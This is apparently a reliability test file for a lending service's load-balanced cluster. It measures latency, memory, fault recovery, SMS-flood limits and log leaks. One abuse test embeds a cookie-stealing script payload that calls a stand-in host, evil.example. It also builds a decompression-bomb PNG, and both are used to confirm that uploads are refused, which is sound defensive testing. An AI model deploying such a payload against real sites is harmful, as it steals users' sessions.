// The reliability suite (docs/decisions/201): the two-server cluster of `npm run cluster` behind
// HAProxy, on a PostgreSQL database and a Redis of its own, under load, faults and abuse. Each test
// prints its figures (`figure <name> <value>`) for the README's reliability table. `npm test` runs it
// after the browser tests; alone: `node --import tsx --test scripts/reliability.test.mjs`.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import pg from 'pg';
import { AccountPath, ErrorCode, Limits, MACHINE_BASE, MachinePath, OPERATOR_BASE, OperatorPath } from '@lend/contracts';
import { findLeaks } from '../apps/server/test/log-leaks.ts';
import { call, sessionQuery } from './bench/read-api.mjs';
import { ensureBook, sampleBorrowers } from './bench/volume.mjs';
import { clusterSettings, startCluster } from './cluster.mjs';
import { freePort } from './free-port.mjs';
import { landingLoad, load } from './reliability/load.mjs';
import { blackPng } from './reliability/png.mjs';
import { alive, residentMiB, startRedis } from './reliability/processes.mjs';

const LOAD_SECONDS = Number(process.env.RELIABILITY_LOAD_SECONDS || 10);
/** Borrowers of the book, and how many of them read their orders under load. */
const BOOK_BORROWERS = 200;
const READERS = 50;
const SERVICE_UNAVAILABLE = 5003;
/** Each abusive upload is sent this many times at once, so that both servers refuse each kind. */
const ABUSE_COPIES = 8;
const MEMORY_CEILING_MIB = 300;

let cluster;
let redis;
let token;
let borrowers;
let log = '';
const dataDir = mkdtempSync(join(tmpdir(), 'lend-reliability-'));
const database = `lend_reliability_${process.pid}`;
const adminUrl = process.env.TEST_DATABASE_URL || 'postgres://postgres@127.0.0.1:5432/postgres';

/** A figure for the README's reliability table, printed where the test runner shows it. */
function figure(t, name, value) {
  t.diagnostic(`figure ${name} ${value}`);
}

/**
 * Runs `work` with server b out of the balancer's rotation, so the one-server figure it measures
 * crosses the same balancer (its hop and its log) as the two-server figure it is compared with.
 */
async function withOneServer(work) {
  await cluster.setInService('b', false);
  try {
    return await work();
  } finally {
    await cluster.setInService('b', true);
  }
}

/**
 * The bound on load through the balancer: p99 within 1.5 times the one-server figure, with
 * 20 ms of room for a run whose p99 is a few milliseconds.
 */
function assertP99WithinOneServer(balanced, single) {
  assert.ok(balanced.p99Ms <= Math.max(1.5 * single.p99Ms, single.p99Ms + 20), `p99 ${balanced.p99Ms} ms through the balancer against ${single.p99Ms} ms on one server`);
}

/**
 * Load on one server and on both, run in the order one, both, both, one (each `LOAD_SECONDS`): what
 * grows over a test (the tables a landing writes, the database's background work) then weighs on
 * both sides alike instead of always on the second run (docs/decisions/201). Each side's p99 and
 * rate is the mean of its two runs; memory is read around the two balanced runs.
 */
async function oneServerAndBoth(run) {
  const servers = cluster.servers;
  const firstSingle = await withOneServer(run);
  // Memory is compared across two equal balanced runs: a leak grows on each, while the allocator's
  // settling after the abuse tests' large pictures and the heap's growth to the load's pace happen
  // on the first (a server of this suite went from 242 to 267 MiB on its first balanced run, and
  // held 185 MiB over twelve runs of the same reads on its own).
  const balancedRuns = [await run()];
  const before = servers.map((server) => residentMiB(server.pid));
  balancedRuns.push(await run());
  const afterRun = servers.map((server) => residentMiB(server.pid));
  const singleRuns = [firstSingle, await withOneServer(run)];
  const mean = (runs, key) => Math.round(runs.reduce((sum, result) => sum + result[key], 0) / runs.length);
  const side = (runs) => ({ p99Ms: mean(runs, 'p99Ms'), reqPerSec: mean(runs, 'reqPerSec'), runs });
  return { single: side(singleRuns), balanced: side(balancedRuns), before, afterRun };
}

/** The order-details call exactly as the screen makes it, for each reader's own latest order. */
function detailsRequest(borrower) {
  return {
    method: 'POST',
    path: `${MACHINE_BASE}${MachinePath.loanDetails}?${sessionQuery(borrower)}`,
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ orderId: borrower.order_no, productId: String(borrower.product_id) }).toString(),
  };
}

const reads = () => borrowers.map((borrower) => detailsRequest(borrower));

/** The database's URL on the administrator's server. */
function databaseUrl(name) {
  const url = new URL(adminUrl);
  url.pathname = `/${name}`;
  return url.toString();
}

/** A session for each borrower through the balancer's operator API, as a phone signing in would get. */
async function sessionsFor(sample) {
  return Promise.all(
    sample.map(async (borrower) => {
      const session = await call(cluster.url, 'POST', `${OPERATOR_BASE}${OperatorPath.createSession}`, { token, body: { phone: borrower.phone.slice(3), market: borrower.market } });
      return { ...borrower, userId: session.userId, sessionId: session.sessionId };
    }),
  );
}

async function terminateBackends() {
  const client = new pg.Client({ connectionString: adminUrl });
  await client.connect();
  try {
    const result = await client.query('select pg_terminate_backend(pid) from pg_stat_activity where datname = $1 and pid <> pg_backend_pid()', [database]);
    return result.rowCount ?? 0;
  } finally {
    await client.end();
  }
}

/** The first order-details read that succeeds on a server, and how long after `since` it came. */
async function recoveredWithin(port, since, limitMs) {
  const request = detailsRequest(borrowers[0]);
  while (Date.now() - since < limitMs) {
    try {
      const answer = await fetch(`http://127.0.0.1:${port}${request.path}`, { method: 'POST', headers: request.headers, body: request.body });
      if (answer.status === 200) return Date.now() - since;
    } catch {
      // not answering yet
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  return undefined;
}

function sendCode(phone, address) {
  return fetch(`${cluster.url}${MACHINE_BASE}${AccountPath.sendCode}?language=1&deviceId=${address}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': address },
    body: JSON.stringify({ phone, market: 'MX', deviceId: address }),
  }).then(async (answer) => ({ status: answer.status, body: await answer.json() }));
}

const smsSentTo = async (e164) =>
  (await call(cluster.url, 'GET', `${OPERATOR_BASE}${OperatorPath.smsOutbox}?phone=${encodeURIComponent(e164)}`, { token })).items.length;


/** An answer's status and envelope, and which server gave it (the balancer says in `X-Served-By`). */
async function answered(response) {
  return { status: response.status, server: response.headers.get('x-served-by'), body: await response.json() };
}

/** One file in the complaint screen's multipart form, through the balancer. */
function uploadImage(borrower, bytes, filename, type) {
  const form = new FormData();
  form.append('problemImage', new Blob([bytes], { type }), filename);
  return fetch(`${cluster.url}${MACHINE_BASE}${MachinePath.complaintImageUpload}?${sessionQuery(borrower)}`, { method: 'POST', body: form }).then(answered);
}

/** A complaint about the borrower's latest order with the uploaded images, as the screen files it. */
function fileComplaint(borrower, urls) {
  const form = { problemType: '3', problemDetail: 'La aplicación no muestra mi pago', problemImage: urls.join(','), orderNo: borrower.order_no };
  return fetch(`${cluster.url}${MACHINE_BASE}${MachinePath.complaintSave}?${sessionQuery(borrower)}`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams(form).toString(),
  }).then(answered);
}

async function complaintRows() {
  const client = new pg.Client({ connectionString: databaseUrl(database) });
  await client.connect();
  try {
    const { rows } = await client.query('select (select count(*) from complaints)::int as complaints, (select count(*) from complaint_images)::int as images');
    return rows[0];
  } finally {
    await client.end();
  }
}

before(async () => {
  // A small book (the volume seed: every status, balanced books) before the servers start, so they seed no demo data over it.
  const admin = new pg.Client({ connectionString: adminUrl });
  await admin.connect();
  await admin.query(`create database ${database}`);
  await admin.end();
  await ensureBook({ url: databaseUrl(database), borrowers: BOOK_BORROWERS, log: () => undefined });
  redis = await startRedis(await freePort());
  const settings = {
    ...clusterSettings(),
    port: await freePort(),
    postgresUrl: adminUrl,
    database,
    redisUrl: `redis://127.0.0.1:${redis.port}/0`,
    dataDir,
    // The read cap counts per borrower; the load reads each borrower's order far beyond a phone's pace.
    env: { BORROWER_READS_PER_MINUTE: '1000000' },
  };
  cluster = await startCluster(settings, (line) => (log += `${line}\n`));
  token = readFileSync(join(dataDir, 'operator-token'), 'utf8').trim();
  const client = new pg.Client({ connectionString: databaseUrl(database) });
  await client.connect();
  try {
    borrowers = await sessionsFor(await sampleBorrowers(client, READERS));
  } finally {
    await client.end();
  }
});

after(async () => {
  await cluster?.stop();
  // The servers' and the balancer's lines, for a failure's reader: RELIABILITY_LOG_FILE=/tmp/cluster.log.
  if (process.env.RELIABILITY_LOG_FILE) writeFileSync(process.env.RELIABILITY_LOG_FILE, log);
  await redis?.stop();
  const client = new pg.Client({ connectionString: adminUrl });
  await client.connect();
  await client.query(`drop database if exists ${database} with (force)`);
  await client.end();
  rmSync(dataDir, { recursive: true, force: true });
});

// The uploads first, on servers at rest: their memory ceilings are for what the uploads cost, not
// for what the load tests' garbage still holds until the next full collection.
test('abuse: a tenth image, 5 MiB + 1, HTML named .jpg and a 20,000 × 20,000 PNG are refused by both servers, each under 300 MiB', async (t) => {
  const small = blackPng(40, 30);
  const files = {
    oversize: { bytes: Buffer.concat([small, Buffer.alloc(Limits.complaintImageBytesMax + 1 - small.length)]), name: 'evidence.png', type: 'image/png' },
    html: { bytes: Buffer.from('<!doctype html><script>fetch("https://evil.example/?" + document.cookie)</script>'), name: 'evidence.jpg', type: 'image/jpeg' },
    bomb: { bytes: blackPng(20_000, 20_000), name: 'evidence.png', type: 'image/png' },
  };
  const expected = {
    tenth: { status: 400, code: ErrorCode.ComplaintTooManyImages },
    oversize: { status: 413, code: ErrorCode.ComplaintImageTooLarge },
    html: { status: 415, code: ErrorCode.ComplaintImageNotImage },
    bomb: { status: 415, code: ErrorCode.ComplaintImageNotImage },
  };
  // The borrowers who file complaints send no abusive file, so the images they upload are exactly theirs.
  const filers = borrowers.slice(0, ABUSE_COPIES);
  const senders = borrowers.slice(ABUSE_COPIES, 2 * ABUSE_COPIES);
  const rowsBefore = await complaintRows();
  const peak = cluster.servers.map((server) => residentMiB(server.pid));
  const sample = () => cluster.servers.forEach((server, i) => (peak[i] = Math.max(peak[i], residentMiB(server.pid))));
  const sampler = setInterval(sample, 50);
  let refused;
  let uploads;
  let tenth;
  let nine;
  try {
    // Every abusive file at once, beside each filer's uploads of one image more than a complaint may hold.
    [refused, uploads] = await Promise.all([
      Promise.all(Object.values(files).map((file) => Promise.all(senders.map((sender) => uploadImage(sender, file.bytes, file.name, file.type))))),
      Promise.all(filers.map((filer) => Promise.all(Array.from({ length: Limits.complaintImagesMax + 1 }, () => uploadImage(filer, small, 'evidence.png', 'image/png'))))),
    ]);
    const urls = uploads.map((list) => list.map((answer) => answer.body.data?.url ?? ''));
    tenth = await Promise.all(filers.map((filer, i) => fileComplaint(filer, urls[i])));
    // The same images less the tenth are taken: the limit is the tenth image, not fewer.
    nine = await Promise.all(filers.map((filer, i) => fileComplaint(filer, urls[i].slice(0, Limits.complaintImagesMax))));
  } finally {
    clearInterval(sampler);
  }
  sample();
  const answers = { tenth, ...Object.fromEntries(Object.keys(files).map((kind, i) => [kind, refused[i]])) };
  const refusedOn = (kind, server) =>
    answers[kind].filter((answer) => answer.server === server && answer.status === expected[kind].status && answer.body.code === expected[kind].code).length;
  figure(t, 'abuse.uploads.refused_a_b', JSON.stringify(Object.fromEntries(Object.keys(answers).map((kind) => [kind, `${refusedOn(kind, 'a')}/${refusedOn(kind, 'b')}`]))));
  figure(t, 'abuse.uploads.peak_memory_mib', peak.join('/'));
  assert.deepEqual(uploads.flat().map((answer) => answer.body.code), Array(filers.length * (Limits.complaintImagesMax + 1)).fill(0));
  for (const [kind, list] of Object.entries(answers)) {
    assert.deepEqual(
      list.map((answer) => ({ status: answer.status, code: answer.body.code, data: answer.body.data })),
      list.map(() => ({ ...expected[kind], data: null })),
      kind,
    );
    assert.deepEqual(new Set(list.map((answer) => answer.server)), new Set(['a', 'b']), `${kind} reached both servers`);
  }
  assert.deepEqual(nine.map((answer) => answer.body.code), filers.map(() => 0));
  // Refused files left no image row and the refused complaints no complaint: only the filers' uploads and nine-image complaints were kept.
  assert.deepEqual(await complaintRows(), { complaints: rowsBefore.complaints + filers.length, images: rowsBefore.images + uploads.flat().length });
  for (const [i, mib] of peak.entries()) assert.ok(mib < MEMORY_CEILING_MIB, `server ${cluster.servers[i].name} reached ${mib} MiB`);
});

test('abuse: photos and screenshots near the pixel limit, eight at once on each server, are taken with each server under 300 MiB', async (t) => {
  // 6,300 × 6,300 is just under the 40-megapixel limit: the largest picture a server decodes. Four at
  // once took a server past 300 MiB before decoding was limited per process (docs/decisions/204).
  const { default: sharp } = await import('sharp');
  const pictures = [
    { bytes: blackPng(6_300, 6_300), name: 'screenshot.png', type: 'image/png' },
    { bytes: await sharp({ create: { width: 6_300, height: 6_300, channels: 3, background: '#2a6fd0' } }).jpeg().toBuffer(), name: 'photo.jpg', type: 'image/jpeg' },
  ];
  const senders = borrowers.slice(2 * ABUSE_COPIES, 4 * ABUSE_COPIES);
  const peak = cluster.servers.map((server) => residentMiB(server.pid));
  const sample = () => cluster.servers.forEach((server, i) => (peak[i] = Math.max(peak[i], residentMiB(server.pid))));
  const sampler = setInterval(sample, 50);
  let answers;
  try {
    answers = await Promise.all(senders.map((sender, i) => uploadImage(sender, pictures[i % 2].bytes, pictures[i % 2].name, pictures[i % 2].type)));
  } finally {
    clearInterval(sampler);
  }
  sample();
  figure(t, 'abuse.large_pictures.taken_a_b', ['a', 'b'].map((server) => answers.filter((answer) => answer.server === server && answer.body.code === 0).length).join('/'));
  figure(t, 'abuse.large_pictures.peak_memory_mib', peak.join('/'));
  assert.deepEqual(answers.map((answer) => answer.body.code), senders.map(() => 0));
  assert.deepEqual(new Set(answers.map((answer) => answer.server)), new Set(['a', 'b']));
  for (const [i, mib] of peak.entries()) assert.ok(mib < MEMORY_CEILING_MIB, `server ${cluster.servers[i].name} reached ${mib} MiB`);
});

test('load: 50 connections reading orders through the balancer, no errors, p99 within 1.5x one server, memory flat', async (t) => {
  // Warm both servers and the balancer first: compiled code and pools, as in production after a minute.
  await load(cluster.url, reads(), 3);
  const { single, balanced, before, afterRun } = await oneServerAndBoth(() => load(cluster.url, reads(), LOAD_SECONDS));
  figure(t, 'load.single.p99_ms', single.p99Ms);
  figure(t, 'load.single.req_per_s', single.reqPerSec);
  figure(t, 'load.balanced.p99_ms', balanced.p99Ms);
  figure(t, 'load.balanced.req_per_s', balanced.reqPerSec);
  figure(t, 'load.balanced.errors', balanced.runs.reduce((sum, run) => sum + run.total - (run.statuses[200] ?? 0) + run.socketErrors, 0));
  figure(t, 'load.memory_mib.before', before.join('/'));
  figure(t, 'load.memory_mib.after', afterRun.join('/'));
  for (const run of balanced.runs) {
    assert.deepEqual(Object.keys(run.statuses), ['200']);
    assert.equal(run.socketErrors, 0);
  }
  assertP99WithinOneServer(balanced, single);
  for (const [i, mib] of afterRun.entries()) assert.ok(mib <= (before[i] ?? 0) * 1.1, `server ${i} grew from ${before[i]} to ${mib} MiB`);
});

test('load: 50 connections of visitors opening the promotion landing through the balancer, no errors, p99 within 1.5x one server, memory flat', async (t) => {
  // The book holds no promotion template (the servers seed no demo data over it): the operator creates the campaign's.
  const template = await call(cluster.url, 'POST', `${OPERATOR_BASE}${OperatorPath.promoTemplates}`, {
    token,
    body: {
      name: 'Reliability campaign',
      content: {
        en: { title: 'Cash in minutes', headline: 'Borrow up to $20,000', body: 'Register with your phone.' },
        es: { title: 'Efectivo en minutos', headline: 'Pida hasta $20,000', body: 'Regístrese con su teléfono.' },
      },
      bannerUrl: '/media/promo/banner.svg',
      colours: { background: '#0B3D91', text: '#FFFFFF', button: '#B3261E', buttonText: '#FFFFFF' },
      downloadLinks: { android: 'https://play.example/store/apps/lend' },
    },
  });
  await landingLoad(cluster.url, template.id, 3);
  const { single, balanced, before, afterRun } = await oneServerAndBoth(() => landingLoad(cluster.url, template.id, LOAD_SECONDS));
  figure(t, 'promo_load.single.p99_ms', single.p99Ms);
  figure(t, 'promo_load.single.req_per_s', single.reqPerSec);
  figure(t, 'promo_load.balanced.p99_ms', balanced.p99Ms);
  figure(t, 'promo_load.balanced.req_per_s', balanced.reqPerSec);
  figure(t, 'promo_load.balanced.errors', balanced.runs.reduce((sum, run) => sum + run.total - run.ok + run.socketErrors, 0));
  figure(t, 'promo_load.memory_mib.before', before.join('/'));
  figure(t, 'promo_load.memory_mib.after', afterRun.join('/'));
  for (const run of single.runs) assert.deepEqual(run.failures, {});
  for (const run of balanced.runs) {
    assert.deepEqual(run.failures, {});
    assert.equal(run.ok, run.total);
    assert.equal(run.socketErrors, 0);
  }
  assertP99WithinOneServer(balanced, single);
  for (const [i, mib] of afterRun.entries()) assert.ok(mib <= (before[i] ?? 0) * 1.1, `server ${i} grew from ${before[i]} to ${mib} MiB`);
});

test('abuse: codes asked for one phone across both servers send one SMS', async (t) => {
  const phone = `55${String(Date.now()).slice(-8)}`;
  const answers = await Promise.all(Array.from({ length: 20 }, (_, i) => sendCode(phone, `198.51.100.${i + 1}`)));
  const sent = await smsSentTo(`+52${phone}`);
  figure(t, 'abuse.sms_flood.asked', answers.length);
  figure(t, 'abuse.sms_flood.sent', sent);
  assert.equal(sent, 1);
  assert.equal(answers.filter((answer) => answer.body.code === 0).length, 1);
});

test('Redis stopped under load: SMS codes are refused, not sent; order reads keep answering', async (t) => {
  const reading = load(cluster.url, reads(), 6, 10);
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  await redis.stop();
  const phone = `55${String(Date.now() + 1).slice(-8)}`;
  const refused = await sendCode(phone, '198.51.100.200');
  const result = await reading;
  figure(t, 'redis_lost.sms_answer', `${refused.status}/${refused.body.code}`);
  figure(t, 'redis_lost.reads', `${result.statuses[200] ?? 0} of ${result.total} answered 200`);
  assert.equal(refused.status, 503);
  assert.equal(refused.body.code, SERVICE_UNAVAILABLE);
  assert.equal(await smsSentTo(`+52${phone}`), 0);
  assert.deepEqual(Object.keys(result.statuses), ['200']);
  redis = await startRedis(redis.port);
});

test('PostgreSQL connections cut every 5 s under load: servers stay up, answer 503 with the envelope while cut, recover within 5 s', async (t) => {
  const [a, b] = cluster.servers;
  const reading = load(cluster.url, reads(), 12, 20);
  let cut = 0;
  const recovery = [];
  for (const at of [1_000, 5_000, 5_000]) {
    await new Promise((resolve) => setTimeout(resolve, at));
    cut += await terminateBackends();
    // Each server's next read after the cut, asked directly, while the load goes on through the balancer.
    const cutAt = Date.now();
    recovery.push(...(await Promise.all([recoveredWithin(a.port, cutAt, 5_000), recoveredWithin(b.port, cutAt, 5_000)])));
  }
  const result = await reading;
  figure(t, 'postgres_cut.connections_cut', cut);
  figure(t, 'postgres_cut.answers', JSON.stringify(result.statuses));
  figure(t, 'postgres_cut.recovered_ms', recovery.join('/'));
  assert.ok(cut > 0);
  assert.ok(alive(a.pid) && alive(b.pid), 'both servers are still running');
  assert.deepEqual(Object.keys(result.statuses).filter((status) => status !== '200' && status !== '503'), []);
  assert.equal(result.withoutEnvelope, 0);
  assert.equal(result.socketErrors, 0);
  for (const ms of recovery) assert.ok(ms !== undefined && ms <= 5_000);
});

test('one server stopped under load: the other answers, nothing lost beyond what was in flight on the stopped one', async (t) => {
  const [a] = cluster.servers;
  const reading = load(cluster.url, reads(), 8, 20);
  await new Promise((resolve) => setTimeout(resolve, 2_000));
  await a.stop();
  const result = await reading;
  const lost = result.total - (result.statuses[200] ?? 0) + result.socketErrors;
  figure(t, 'server_stopped.answers', JSON.stringify(result.statuses));
  figure(t, 'server_stopped.lost', lost);
  // The stopped server finishes what it holds (a graceful stop), and what it turns away while closing the balancer sends to the other.
  assert.equal(lost, 0);
});

test('no server log line of the run holds a session id, phone, SMS code or national id', async (t) => {
  const client = new pg.Client({ connectionString: databaseUrl(database) });
  await client.connect();
  let stored;
  try {
    const { rows } = await client.query(`select
        (select coalesce(json_agg(phone), '[]') from borrowers) as phones,
        (select coalesce(json_agg(code), '[]') from sms_outbox where code is not null) as codes,
        (select coalesce(json_agg(national_id), '[]') from borrower_profiles where national_id is not null) as "nationalIds",
        (select coalesce(json_agg(order_no), '[]') from loan_orders) as "orderNos",
        (select coalesce(json_agg(reference), '[]') from payment_references) as "references"`);
    stored = rows[0];
  } finally {
    await client.end();
  }
  const leaks = findLeaks(log, {
    secrets: [...borrowers.map((borrower) => borrower.sessionId), ...stored.phones.flatMap((phone) => [phone, phone.slice(3)]), ...stored.codes, ...stored.nationalIds],
    // Order numbers and payment references are the lender's own ids, not a person's data.
    allowedIds: [...stored.orderNos, ...stored.references],
  });
  figure(t, 'logs.lines', log.split('\n').filter(Boolean).length);
  figure(t, 'logs.leaks', leaks.length);
  assert.deepEqual(leaks.slice(0, 10), []);
});

test('the books balance after the run', async (t) => {
  const check = await call(cluster.url, 'GET', `${OPERATOR_BASE}${OperatorPath.ledgerCheck}`, { token });
  figure(t, 'ledger.mismatches', check.mismatches.length);
  assert.equal(check.mismatches.length, 0);
});
